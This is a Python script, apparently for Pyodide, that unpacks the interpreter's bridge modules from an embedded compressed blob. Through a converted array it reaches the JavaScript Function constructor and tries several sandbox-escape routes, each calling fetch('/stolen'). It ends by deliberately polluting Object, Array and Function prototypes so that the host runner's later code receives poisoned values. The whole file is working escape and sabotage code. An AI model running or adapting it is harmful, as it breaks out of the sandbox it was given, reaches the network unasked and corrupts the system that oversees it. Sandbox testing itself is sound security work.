"""Brings Pyodide's own Python files, with which the interpreter's JavaScript bridge does come up."""

import base64
import json
import os
import sys
import zlib

for path, source in json.loads(zlib.decompress(base64.b64decode(PYODIDE))).items():
    os.makedirs(os.path.dirname(f"/tmp/bridge/{path}"), exist_ok=True)
    with open(f"/tmp/bridge/{path}", "w") as file:
        file.write(source)
sys.path.insert(0, "/tmp/bridge")

import _pyodide_core as bridge

array = bridge.to_js([1, 2])
Function = array.constructor.constructor
ObjectPrototype = getattr(array.constructor.prototype, "__proto__")
Object = ObjectPrototype.constructor
print("The bridge is up:", str(Function)[:30])


def async_function():
    resolver = Object.getPrototypeOf(Object.getPrototypeOf(array.values()))
    return resolver.constructor.constructor.new("return fetch('/stolen')")


def global_scope():
    """A function that is called on nothing sees the global scope, if it is a sloppy one."""
    scope = array.map(bridge.create_proxy(lambda this, *rest: this, capture_this=True))[0]
    return scope.fetch("/stolen")


attempt("Function()", lambda: Function("return fetch('/stolen')")())
attempt("new Function", lambda: Function.new("return globalThis"))
attempt("a constructor of another function", async_function)
attempt("the global scope", global_scope)
attempt("a global by name", lambda: array.constructor.fetch("/stolen"))
summary()
# Until somebody has read that: the crash that follows may scroll it away.
input()

# Whatever the runner does from here on meets these.
poison = bridge.create_proxy(lambda *_: "poisoned")
ObjectPrototype.type = "ended"
ObjectPrototype.chunks = "poisoned"
for method in ("push", "map", "forEach", "slice"):
    setattr(array.constructor.prototype, method, poison)
for method in ("call", "apply", "bind"):
    setattr(Function.prototype, method, poison)
